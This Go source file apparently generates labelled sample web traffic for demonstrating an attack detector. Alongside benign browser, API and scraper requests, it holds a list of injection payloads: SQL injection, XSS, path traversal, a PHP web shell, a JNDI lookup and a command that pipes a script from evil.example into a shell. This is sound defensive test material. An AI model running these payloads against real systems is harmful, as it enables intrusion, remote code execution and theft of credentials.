package sample

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"

	"github.com/weirnode/weir/attack"
)

// Request is one request of the sample traffic.
type Request struct {
	Client  string      // who sends it; requests of one client go out in order
	Attack  attack.Type // None for harmless ones
	Method  string
	Target  string
	Headers [][2]string
	Body    string
}

// agents of ordinary browsers.
var agents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:159.0) Gecko/20100101 Firefox/159.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
}

// searches are words that people look for; several of them trouble careless filters.
var searches = []string{
	"kettle", "desk lamp", "O'Reilly select committee", "rock 'n' roll headphones", "5' or 6' desk", "black & white", "lamp (small)",
	"union select coffee", "price < 20", "what's new?", "C++ notebook", "50% off", "drop table lamp", "grinder; conical",
}

// notes are what people write to a shop.
var notes = []string{
	"Please ring twice, it's the house with the \"green\" door.", "Thanks & see you soon <3", "Deliver to apartment #5; the lift isn't working.",
	"I'd like to select colour and update my order from last week.", "Order by Friday or cancel it, please.", "He said: \"use the back door\" -- thanks!",
}

// Plan is the whole sample traffic, in the order in which it starts.
type Plan struct{ Requests []Request }

// Scale says how much traffic a plan holds.
type Scale struct{ People, APIClients, Attackers, Pages int }

// DemoScale is the traffic of `weir demo`: about 1,200 requests.
var DemoScale = Scale{People: 24, APIClients: 6, Attackers: 8, Pages: 120}

// NewPlan returns the traffic of a scale; the same seed gives the same plan.
func NewPlan(s Scale, seed uint64) Plan {
	g := generator{rand.New(rand.NewPCG(seed, 1))} //nolint:gosec // repeatable on purpose
	streams := make([][]Request, 0, s.People+s.APIClients+s.Attackers+1)
	for i := range s.People {
		streams = append(streams, g.person(i))
	}
	for i := range s.APIClients {
		streams = append(streams, g.apiClient(i))
	}
	for i := range s.Attackers {
		streams = append(streams, g.attacker(i))
	}
	streams = append(streams, g.scraper(s.Pages))
	return Plan{g.interleave(streams)}
}

type generator struct{ *rand.Rand }

// interleave mixes the streams at random and keeps the order within each.
func (g generator) interleave(streams [][]Request) []Request {
	var all []Request
	for len(streams) > 0 {
		i := g.IntN(len(streams))
		all = append(all, streams[i][0])
		if streams[i] = streams[i][1:]; len(streams[i]) == 0 {
			streams[i] = streams[len(streams)-1]
			streams = streams[:len(streams)-1]
		}
	}
	return all
}

func pick[T any](g generator, list []T) T { return list[g.IntN(len(list))] }

func (g generator) token(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.Uint32())
	}
	return base64.RawURLEncoding.EncodeToString(b)
}

// person browses with a cookie, searches, signs in, sometimes uploads.
func (g generator) person(i int) []Request {
	client := fmt.Sprintf("person-%d", i)
	common := [][2]string{
		{"User-Agent", agents[i%len(agents)]},
		{"Accept", "text/html,*/*;q=0.8"},
		{"Accept-Language", "en-US,en;q=0.9"},
		{"Cookie", "sid=" + g.token(24) + "; theme=dark; cart=" + g.token(6)},
		{"X-Forwarded-For", fmt.Sprintf("198.51.100.%d", 10+i)},
	}
	get := func(target string) Request {
		return Request{Client: client, Method: "GET", Target: target, Headers: common}
	}
	list := []Request{get("/"), get("/static/shop.css"), get("/products?page=2&sort=price_asc")}
	for range 6 + g.IntN(12) {
		list = append(list, get(fmt.Sprintf("/products/%d", 1000+g.IntN(48))))
	}
	for range 3 {
		list = append(list, get("/search?q="+url.QueryEscape(pick(g, searches))))
	}
	login := "user=demo&password=demo&next=" + url.QueryEscape("/account?tab=orders")
	list = append(list, g.post(client, common, "/login", "application/x-www-form-urlencoded", login))
	if i%4 == 0 {
		list = append(list, g.photo(client, common))
	}
	return list
}

func (g generator) post(client string, common [][2]string, target, contentType, body string) Request {
	headers := append(append([][2]string{}, common...), [2]string{"Content-Type", contentType})
	return Request{Client: client, Method: "POST", Target: target, Headers: headers, Body: body}
}

func (g generator) photo(client string, common [][2]string) Request {
	const boundary = "----sample-boundary-7MA4YWxk"
	content := make([]byte, 4096)
	for i := range content {
		content[i] = byte(g.Uint32())
	}
	copy(content, "\xff\xd8\xff\xe0\x00\x10JFIF")
	body := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday\r\n--" + boundary +
		"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n" + string(content) + "\r\n--" + boundary + "--\r\n"
	return g.post(client, common, "/upload", "multipart/form-data; boundary="+boundary, body)
}

// apiClient reads products and places orders as JSON.
func (g generator) apiClient(i int) []Request {
	client := fmt.Sprintf("api-%d", i)
	common := [][2]string{
		{"User-Agent", "ShopApp/4.2 (build 118)"},
		{"Accept", "application/json"},
		{"Authorization", "Bearer " + g.token(48)},
		{"X-Forwarded-For", fmt.Sprintf("203.0.113.%d", 10+i)},
	}
	var list []Request
	for range 30 {
		list = append(list, Request{Client: client, Method: "GET", Target: fmt.Sprintf("/api/v1/products/%d", 1000+g.IntN(48)), Headers: common})
		if g.IntN(3) == 0 {
			body := fmt.Sprintf(`{"items":[{"id":%d,"qty":%d}],"note":%q,"created":"2026-11-24T10:0%d:00Z"}`,
				1000+g.IntN(48), 1+g.IntN(4), pick(g, notes), g.IntN(10))
			list = append(list, g.post(client, common, "/api/v1/orders", "application/json", body))
		}
	}
	return list
}

// scraper walks all products quickly, with a library's name and without a cookie.
func (g generator) scraper(pages int) []Request {
	common := [][2]string{{"User-Agent", "python-requests/2.33.0"}, {"Accept", "*/*"}, {"X-Forwarded-For", "192.0.2.77"}}
	list := make([]Request, 0, pages)
	for i := range pages {
		list = append(list, Request{Client: "scraper", Method: "GET", Target: fmt.Sprintf("/products/%d", 1000+i%48), Headers: common})
	}
	return list
}

// exploit is one attack with the place it goes to.
type exploit struct {
	typ     attack.Type
	payload string
}

var exploits = []exploit{
	{attack.SQLi, "1' UNION SELECT username,password FROM users--"},
	{attack.SQLi, "1 OR 1=1"},
	{attack.SQLi, "admin'--"},
	{attack.SQLi, "x'; DROP TABLE orders; --"},
	{attack.SQLi, "1 AND SLEEP(5)"},
	{attack.SQLi, `" or "a"="a`},
	{attack.XSS, "<script>prompt(1)</script>"},
	{attack.XSS, `"><img src=x onerror=alert(document.cookie)>`},
	{attack.XSS, "<svg/onload=alert(1)>"},
	{attack.XSS, "javascript:alert(document.domain)"},
	{attack.XSS, "';alert(1)//"},
	{attack.RCE, "; cat /etc/passwd"},
	{attack.RCE, "| wget http://evil.example/x.sh -O- | sh"},
	{attack.RCE, "$(whoami)"},
	{attack.RCE, "${jndi:ldap://evil.example/a}"},
	{attack.RCE, "<?php system($_GET['c']); ?>"},
	{attack.PTrav, "../../../../etc/passwd"},
	{attack.PTrav, `..\..\..\windows\win.ini`},
	{attack.PTrav, "....//....//....//etc/shadow"},
	{attack.PTrav, "/etc/passwd"},
}

// attacker tries exploits in the query, in forms, in JSON and in paths.
func (g generator) attacker(i int) []Request {
	client := fmt.Sprintf("attacker-%d", i)
	common := [][2]string{
		{"User-Agent", agents[i%len(agents)]}, {"Accept", "*/*"}, {"X-Forwarded-For", fmt.Sprintf("192.0.2.%d", 10+i)},
	}
	const tries = 12
	list := make([]Request, 0, tries+1)
	list = append(list, Request{Client: client, Method: "GET", Target: "/", Headers: common})
	for range tries {
		x := pick(g, exploits)
		list = append(list, g.place(client, common, x))
	}
	return list
}

func (g generator) place(client string, common [][2]string, x exploit) Request {
	var r Request
	switch g.IntN(4) {
	case 0:
		r = g.post(client, common, "/login", "application/x-www-form-urlencoded", "user="+url.QueryEscape(x.payload)+"&password=x")
	case 1:
		quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(x.payload)
		r = g.post(client, common, "/api/v1/orders", "application/json", `{"items":[],"note":"`+quoted+`"}`)
	default:
		r = Request{Client: client, Method: "GET", Target: "/search?q=" + url.QueryEscape(x.payload), Headers: common}
	}
	r.Attack = x.typ
	return r
}
